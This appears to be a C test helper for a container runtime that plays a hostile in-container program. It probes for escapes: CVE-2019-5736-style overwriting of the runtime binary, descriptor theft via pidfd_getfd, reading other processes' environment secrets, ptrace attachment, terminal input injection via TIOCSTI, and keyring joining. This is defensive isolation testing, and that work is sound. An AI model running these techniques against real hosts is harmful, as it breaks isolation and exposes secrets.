/* SPDX-License-Identifier: Apache-2.0 */

/*
 * hostile - what a program in a container would try against those outside
 *
 *	hostile watch SECONDS   preys on each process that appears in its pid namespace
 *	hostile swap A B …      exchanges names, pair by pair, until it is killed
 *	hostile type            pushes input at its terminal in every way there is
 *	hostile keys NAME RING  looks for a key in its session, then in another session's ring
 *	hostile add-key NAME    puts a key in its session, says "ready" and sleeps
 *	hostile tell FILE       writes down what it was given: environment, descriptors
 *	hostile walk DIR        names the files below that it may write
 *	hostile devices DIR T:MAJOR:MINOR…   which of "mrw" it may do with each device
 *	hostile cost PROGRAM…   runs it; then its status, and peak memory in KiB, on stderr
 *
 * `watch` sleeps at no time: it looks at the next pids of its namespace in a tight loop, so
 * that it meets a process of the runtime that entered the namespace in the millisecond
 * before it becomes the container's own program. One "key value" line for each kind of
 * success; what of it is a breach is the test's to say. Static, and without <linux/...>.
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_renameat2
#define SYS_renameat2 316
#endif

#define MAX_LINES 512
#define AHEAD	  8 /* pids looked at beyond the newest one */

static struct stat our_root;
static char *said[MAX_LINES];
static int n_said;
static unsigned seen_by[MAX_LINES];

/* Each line once, however often it happens. */
static void say(const char *key, const char *value)
{
	char line[PATH_MAX + 64];

	snprintf(line, sizeof(line), "%s %s", key, value);
	for (int i = 0; i < n_said; i++) {
		if (!strcmp(said[i], line)) {
			seen_by[i]++;
			return;
		}
	}
	if (n_said == MAX_LINES)
		return;
	said[n_said] = strdup(line);
	seen_by[n_said++] = 1;
	puts(line);
	fflush(stdout);
}

static const char *link_of(int pid, const char *name)
{
	static char text[PATH_MAX];
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);

	ssize_t n = readlink(path, text, sizeof(text) - 1);

	if (n < 0)
		return NULL;
	text[n] = '\0';
	return text;
}

static int open_of(int pid, const char *name, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return open(path, flags | O_CLOEXEC);
}

/* /proc/<pid>/root and cwd lead through any mount namespace: is it another root than ours? */
static void try_root(int pid, const char *name)
{
	int fd = open_of(pid, name, O_PATH | O_DIRECTORY);
	struct stat st, up;

	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0) {
		bool ours = st.st_dev == our_root.st_dev && st.st_ino == our_root.st_ino;
		/* Does it reach something of the host's that the container does not have? */
		bool host = fstatat(fd, "etc/image-file", &up, AT_SYMLINK_NOFOLLOW) < 0;

		if (!ours && host)
			say(name, "of another root");
	}
	close(fd);
}

static void try_exe(int pid)
{
	const char *link = link_of(pid, "exe");
	char reopen[64];

	if (!link)
		return;
	say("exe", link);

	int fd = open_of(pid, "exe", O_PATH);

	if (fd < 0)
		return;
	/* CVE-2019-5736: once the file is not executed any more, it can be written through the same inode. */
	snprintf(reopen, sizeof(reopen), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3; i++) {
		int w = open(reopen, i ? O_RDWR : O_WRONLY);

		if (w >= 0) {
			struct stat st;

			/* Only what is not the image's: the binary of the runtime, or its first program. */
			if (strstr(link, "bulkhead") && fstat(w, &st) == 0 && st.st_size > 0 &&
			    pwrite(w, "#", 1, 0) == 1)
				say("overwritten", link);
			close(w);
		}
	}
	close(fd);
}

static void try_fds(int pid)
{
	char path[64], name[64];

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);

	DIR *d = opendir(path);

	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(name, sizeof(name), "fd/%.16s", e->d_name);

		const char *link = link_of(pid, name);

		if (link && link[0] == '/') {
			char copy[PATH_MAX];

			snprintf(copy, sizeof(copy), "%s", link);
			say("fd", copy);
		}
	}
	closedir(d);
}

static void try_pidfd(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	for (int n = 3; n < 24; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		struct stat st;

		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			char link[64], target[PATH_MAX] = "";

			snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
			if (readlink(link, target, sizeof(target) - 1) > 0)
				say("stolen-directory", target);
		}
		close(fd);
	}
	close(pidfd);
}

static void try_memory(int pid)
{
	int fd = open_of(pid, "mem", O_RDWR);

	if (fd >= 0) {
		const char *link = link_of(pid, "exe");

		say("mem", link ? link : "?");
		close(fd);
	}
	fd = open_of(pid, "environ", O_RDONLY);
	if (fd >= 0) {
		char text[4096];
		ssize_t n = read(fd, text, sizeof(text) - 1);

		text[n > 0 ? n : 0] = '\0';
		for (ssize_t i = 0; i < n; i += (ssize_t)strlen(text + i) + 1) {
			if (strstr(text + i, "SECRET"))
				say("environ", text + i);
		}
		close(fd);
	}
}

static void try_ptrace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;

	const char *link = link_of(pid, "exe");

	say("traced", link ? link : "?");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
		int status;

		waitpid(pid, &status, __WALL);
		try_root(pid, "root");
		try_fds(pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static void prey(int pid)
{
	try_root(pid, "root");
	try_root(pid, "cwd");
	try_exe(pid);
	try_fds(pid);
	try_pidfd(pid);
	try_memory(pid);
	try_ptrace(pid);
}

static bool exists(int pid)
{
	char path[32];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d", pid);
	return stat(path, &st) == 0;
}

static int newest_pid(void)
{
	int pid = fork();

	if (pid == 0)
		_exit(0);
	waitpid(pid, NULL, 0);
	return pid;
}

static int watch(double seconds)
{
	struct timespec now, begin;
	int me = getpid();
	int newest = newest_pid();
	unsigned met = 0;

	stat("/", &our_root);
	puts("ready -");
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		for (int pid = newest + 1; pid <= newest + AHEAD; pid++) {
			if (pid == me || !exists(pid))
				continue;
			met++;
			for (int i = 0; i < 400 && exists(pid); i++)
				prey(pid);
			newest = pid;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) / 1e9 < seconds &&
		 access("/tmp/stop", F_OK) < 0);

	char text[32];

	snprintf(text, sizeof(text), "%u", met);
	say("met", text);
	return 0;
}

static _Noreturn void swap(char **names)
{
	for (;;) {
		for (char **n = names; n[0] && n[1]; n += 2)
			syscall(SYS_renameat2, AT_FDCWD, n[0], AT_FDCWD, n[1], 2 /* RENAME_EXCHANGE */);
	}
}

static void attempt(const char *what, bool ok)
{
	printf("%s %s\n", what, ok ? "ok" : strerror(errno));
}

/* All that has ever put bytes into the input of a terminal one shares with somebody. */
static int type(void)
{
	char c = 'x';
	char paste[2] = { 3, 0 };

	for (int fd = 0; fd < 3; fd++) {
		attempt("TIOCSTI", ioctl(fd, 0x5412 /* TIOCSTI */, &c) == 0);
		attempt("TIOCLINUX", ioctl(fd, 0x541c /* TIOCLINUX: paste the selection */, paste) == 0);
		attempt("TIOCSCTTY", ioctl(fd, 0x540e /* TIOCSCTTY, by force */, 1) == 0);
	}
	return 0;
}

#define KEY_SPEC_SESSION_KEYRING (-3)

static int keys(const char *name, const char *ring)
{
	attempt("own", syscall(SYS_request_key, "user", name, NULL, 0) >= 0);
	attempt("join", syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, ring) >= 0);
	attempt("joined", syscall(SYS_request_key, "user", name, NULL, 0) >= 0);
	return 0;
}

static _Noreturn void add_key(const char *name)
{
	bool ok = syscall(SYS_add_key, "user", name, "payload", 7, KEY_SPEC_SESSION_KEYRING) >= 0;

	puts(ok ? "ready" : strerror(errno));
	fflush(stdout);
	for (;;)
		pause();
}

extern char **environ;

static int tell(const char *file)
{
	FILE *f = fopen(file, "we");

	if (!f)
		return 1;
	for (char **e = environ; *e; e++)
		fprintf(f, "env %s\n", *e);
	for (int fd = 0; fd < 4096; fd++) {
		char link[32], target[PATH_MAX];

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);

		ssize_t n = fd == fileno(f) ? -1 : readlink(link, target, sizeof(target) - 1);

		if (n >= 0)
			fprintf(f, "fd %d %.*s\n", fd, (int)n, target);
	}
	return fclose(f);
}

static bool is_number(const char *name)
{
	return strspn(name, "0123456789") == strlen(name);
}

/* Below /proc only what is not of a process: those change, and are one's own. */
static void walk(const char *dir, int depth)
{
	DIR *d = opendir(dir);

	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		char path[PATH_MAX];
		struct stat st;

		if (e->d_name[0] == '.' || (depth == 0 && is_number(e->d_name)))
			continue;
		if ((size_t)snprintf(path, sizeof(path), "%s/%s", dir, e->d_name) >= sizeof(path) ||
		    lstat(path, &st) < 0 || S_ISLNK(st.st_mode))
			continue;
		if (access(path, W_OK) == 0)
			printf("%s %s\n", S_ISDIR(st.st_mode) ? "dir" : S_ISREG(st.st_mode) ? "file" : "other", path);
		if (S_ISDIR(st.st_mode))
			walk(path, depth + 1);
	}
	closedir(d);
}

/* The device cgroup answers EPERM; a device without a driver ENXIO or ENODEV, which is a yes here. */
static bool may_open(const char *path, int flags)
{
	int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return fd >= 0 || errno != EPERM;
}

/* Nodes that may not be made are looked for in /nodes, where the test has made them. */
static int devices(const char *dir, char **list)
{
	for (; *list; list++) {
		unsigned major, minor;
		char path[PATH_MAX], type, answer[4] = "---";

		if (sscanf(*list, "%c:%u:%u", &type, &major, &minor) != 3)
			return 2;
		snprintf(path, sizeof(path), "%s/made", dir);
		if (mknod(path, (type == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major, minor)) == 0) {
			answer[0] = 'm';
			unlink(path);
		}
		snprintf(path, sizeof(path), "/nodes/%s", *list);
		if (may_open(path, O_RDONLY))
			answer[1] = 'r';
		if (may_open(path, O_WRONLY))
			answer[2] = 'w';
		printf("%s %s\n", *list, answer);
	}
	return 0;
}

/* A small process in between: what a large caller (an interpreter) uses itself does not count. */
static int cost(char **argv)
{
	struct rusage usage;
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
	if (wait4(pid, &status, 0, &usage) < 0)
		return 2;
	fprintf(stderr, "\nstatus %d\npeak %ld\n", WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status),
		usage.ru_maxrss);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && !strcmp(argv[1], "keys"))
		return keys(argv[2], argv[3]);
	if (argc >= 3 && !strcmp(argv[1], "add-key"))
		add_key(argv[2]);
	if (argc >= 3 && !strcmp(argv[1], "tell"))
		return tell(argv[2]);
	if (argc >= 3 && !strcmp(argv[1], "walk"))
		return walk(argv[2], 0), 0;
	if (argc >= 4 && !strcmp(argv[1], "devices"))
		return devices(argv[2], argv + 3);
	if (argc >= 3 && !strcmp(argv[1], "cost"))
		return cost(argv + 2);
	if (argc >= 3 && !strcmp(argv[1], "watch"))
		return watch(strtod(argv[2], NULL));
	if (argc >= 4 && !strcmp(argv[1], "swap"))
		swap(argv + 2);
	if (argc >= 2 && !strcmp(argv[1], "type"))
		return type();
	return 2;
}
